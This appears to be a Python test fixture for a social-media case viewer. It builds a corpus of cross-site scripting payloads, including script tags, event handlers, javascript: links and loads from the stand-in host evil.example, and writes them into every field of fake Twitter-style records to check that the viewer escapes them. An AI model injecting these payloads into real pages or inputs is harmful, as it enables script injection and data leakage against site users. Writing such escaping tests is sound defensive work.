"""A corpus of script-injection payloads placed where case text goes: post text, handles,
display names, profile text and location, hashtags, links and place names.

Every payload that could run would set ``document.title`` to ``MARKER`` or fetch from
``evil.example``; the tests check that no page holds live markup from it and that a browser
shows neither.
"""

from __future__ import annotations

import json
from pathlib import Path

__all__ = ["MARKER", "PAYLOADS", "write_hostile_jsonl"]

MARKER = "XSS-RAN"
_SET = f"document.title='{MARKER}'"

PAYLOADS = [
    f"<script>{_SET}</script>",
    f'<img src=x onerror="{_SET}">',
    f"<svg onload={_SET}>",
    f'"><script>{_SET}</script>',
    f"'><img src=x onerror={_SET}>",
    f"javascript:{_SET}",
    f'<a href="javascript:{_SET}">click</a>',
    f'<iframe src="javascript:{_SET}"></iframe>',
    f"</textarea><script>{_SET}</script>",
    f"</title><script>{_SET}</script>",
    f"<body onload={_SET}>",
    f"<details open ontoggle={_SET}>",
    f"<input autofocus onfocus={_SET}>",
    f"<video><source onerror={_SET}></video>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<object data="http://evil.example/x.swf"></object>',
    "<img src=http://evil.example/pixel.gif>",
    f"&lt;script&gt;{_SET}&lt;/script&gt;",
    "{{ 7*7 }} {% raw %}${7*7}",
    f"<!--<script>{_SET}</script>-->",
    f"\u202e<script>{_SET}</script>",
    f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{_SET}</x:script>',
]


def write_hostile_jsonl(path: Path) -> int:
    """One JSONL file with each payload in the text, the handle, the display name, the
    profile, a hashtag, a link and next to a place name; returns the number of posts."""
    lines = []
    for number, payload in enumerate(PAYLOADS):
        for context in range(4):
            text = {
                0: f"{payload} in Mosul",
                1: f"report from Raqqa #{payload} #mosul",
                2: f"see http://evil.example/{payload} and Mossoul",
                3: f"@h{number}x{payload} said Baghdad {payload}",
            }[context]
            lines.append(
                json.dumps(
                    {
                        "id": f"{number}-{context}",
                        "user": f"h{number}x{context}{payload}" if context == 3 else f"h{number}",
                        "name": f"{payload} name",
                        "description": f"profile {payload}",
                        "location": f"{payload} Mosul",
                        "created_at": f"2016-11-{1 + number % 28:02d}T10:{context:02d}:00Z",
                        "text": text,
                        "platform": "twitter",
                    },
                    ensure_ascii=False,
                )
            )
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return len(lines)
